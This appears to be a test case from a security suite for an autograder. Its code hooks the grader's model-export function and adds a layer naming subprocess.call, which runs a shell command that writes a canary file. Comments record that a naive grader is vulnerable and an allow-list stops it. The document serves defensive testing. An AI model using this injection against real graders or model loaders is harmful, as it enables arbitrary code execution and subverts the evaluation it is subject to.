# tries: a model whose description names a class of another module
# must not: its code does not run in the grader
# would: code
# undefended: naive
# earns: 2
# stopped by: list of allowed parts

# %%
import autograder.engine.student as engine
original = engine.export_model
def crafted(model):
    data = original(model)
    data["architecture"]["config"]["layers"].append(evil())
    return data
engine.export_model = crafted

def evil():
    return {"module": "subprocess", "class_name": "call", "registered_name": None,
            "config": {"args": ["/bin/sh", "-c", f"echo > '{K.CANARY}'"]}}
